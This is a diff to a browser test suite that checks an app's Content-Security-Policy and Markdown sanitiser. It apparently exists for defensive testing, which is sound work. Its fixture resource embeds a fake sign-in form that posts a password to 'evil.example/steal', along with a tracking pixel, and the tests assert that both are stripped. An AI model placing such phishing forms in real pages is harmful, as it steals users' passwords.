@@ -10,6 +10,43 @@ import {
   watchErrors
 } from './harness.ts';
 
+/** A coordinator publishes a resource whose Markdown has a form, a password field and a remote image. */
+async function publishHostileResource(url: string): Promise<string> {
+  const post = async <T>(path: string, body: unknown, cookie = ''): Promise<{ body: T; cookie: string }> => {
+    const response = await fetch(`${url}${path}`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', origin: url, ...(cookie ? { cookie } : {}) },
+      body: JSON.stringify(body)
+    });
+    if (!response.ok) throw new Error(`POST ${path}: ${response.status} ${await response.text()}`);
+    return { body: (await response.json()) as T, cookie: response.headers.get('set-cookie')?.split(';')[0] ?? '' };
+  };
+  const { cookie } = await post('/api/auth/login', { email: 'coordinator@example.org', password: DEMO_PASSWORD });
+  const catalogue = (await (await fetch(`${url}/api/catalogue`)).json()) as Catalogue;
+  const { body } = await post<{ id: string }>(
+    '/api/resources',
+    {
+      title: 'A page that tries too much',
+      summary: 'Forms, password fields and a tracking pixel.',
+      type: 'page',
+      audience: ['mentor'],
+      language: 'en',
+      collection: catalogue.collections[0]!.id,
+      body: [
+        '## Sign in again',
+        '',
+        '<form action="https://evil.example/steal"><input type="password" name="p"><button>Go</button></form>',
+        '',
+        '![pixel](https://tracker.example/pixel.png) ![logo](/icons/icon.svg)',
+        '',
+        '- [ ] A task that stays a checkbox'
+      ].join('\n')
+    },
+    cookie
+  );
+  return body.id;
+}
+
 /**
  * The Content-Security-Policy measured in Chromium (docs/security.md): the public pages, the signed-in app and its
  * offline start from the service worker run with no violation at all, while a script injected into the page is
@@ -29,42 +66,6 @@ describe('web hardening in the browser', () => {
       if (message.type() === 'error' && /Content Security Policy|CSP violation/i.test(message.text()))
         violations.push(`${message.page()?.url() ?? '?'}: ${message.text()}`);
     });
-  }
-
-  async function publishHostileResource(): Promise<string> {
-    const post = async <T>(path: string, body: unknown, cookie = ''): Promise<{ body: T; cookie: string }> => {
-      const response = await fetch(`${suite.stack.url}${path}`, {
-        method: 'POST',
-        headers: { 'content-type': 'application/json', origin: suite.stack.url, ...(cookie ? { cookie } : {}) },
-        body: JSON.stringify(body)
-      });
-      if (!response.ok) throw new Error(`POST ${path}: ${response.status} ${await response.text()}`);
-      return { body: (await response.json()) as T, cookie: response.headers.get('set-cookie')?.split(';')[0] ?? '' };
-    };
-    const { cookie } = await post('/api/auth/login', { email: 'coordinator@example.org', password: DEMO_PASSWORD });
-    const catalogue = (await (await fetch(`${suite.stack.url}/api/catalogue`)).json()) as Catalogue;
-    const { body } = await post<{ id: string }>(
-      '/api/resources',
-      {
-        title: 'A page that tries too much',
-        summary: 'Forms, password fields and a tracking pixel.',
-        type: 'page',
-        audience: ['mentor'],
-        language: 'en',
-        collection: catalogue.collections[0]!.id,
-        body: [
-          '## Sign in again',
-          '',
-          '<form action="https://evil.example/steal"><input type="password" name="p"><button>Go</button></form>',
-          '',
-          '![pixel](https://tracker.example/pixel.png) ![logo](/icons/icon.svg)',
-          '',
-          '- [ ] A task that stays a checkbox'
-        ].join('\n')
-      },
-      cookie
-    );
-    return body.id;
   }
 
   it('runs the public pages, the signed-in app and its offline start under the policy with no violation', async () => {
@@ -145,7 +146,7 @@ describe('web hardening in the browser', () => {
   });
 
   it('renders resource Markdown with the strict profile: no form, no password field, no remote image', async () => {
-    const id = await publishHostileResource();
+    const id = await publishHostileResource(suite.stack.url);
     const violations: string[] = [];
     const device = await suite.device();
     await watchViolations(device, violations);
@@ -158,6 +159,36 @@ describe('web hardening in the browser', () => {
     expect(await page.locator('input[type="password"]').count()).toBe(0);
     expect(await page.locator('img[src*="tracker.example"]').count()).toBe(0);
     expect(await article.locator('input[type="checkbox"][disabled]').count()).toBe(1);
+
+    // The same page reached inside the app is rendered in the browser, through DOMPurify's strict profile.
+    await page.goto('/learn');
+    await page.getByRole('link', { name: 'A page that tries too much' }).first().click();
+    await page.waitForURL(new RegExp(`/learn/${id}$`));
+    await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
+    await expect.poll(() => page.locator('article img[src="/icons/icon.svg"]').count()).toBe(1);
+    expect(await page.locator('form').count()).toBe(0);
+    expect(await page.locator('input[type="password"]').count()).toBe(0);
+    expect(await page.locator('img[src*="tracker.example"]').count()).toBe(0);
+    expect(await page.locator('article input[type="checkbox"][disabled]').count()).toBe(1);
     expect(violations).toEqual([]);
+  });
+});
+
+describe('remote images allowed by the admin (MOP_REMOTE_IMAGES=1)', () => {
+  const suite = useStackAndBrowser(() => ({ remoteImages: true }));
+
+  it('lets the page policy load https images and the sanitiser keep them, and still no form', async () => {
+    const id = await publishHostileResource(suite.stack.url);
+    const device = await suite.device();
+    const page = await device.newPage();
+    const response = await page.goto(`/learn/${id}`);
+    const imgSrc = (response?.headers()['content-security-policy'] ?? '')
+      .split(';')
+      .find((directive) => directive.trim().startsWith('img-src'));
+    expect(imgSrc?.trim()).toBe("img-src 'self' data: blob: https:");
+    await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
+    await expect.poll(() => page.locator('article img[src="https://tracker.example/pixel.png"]').count()).toBe(1);
+    expect(await page.locator('form').count()).toBe(0);
+    expect(await page.locator('input[type="password"]').count()).toBe(0);
   });
 });
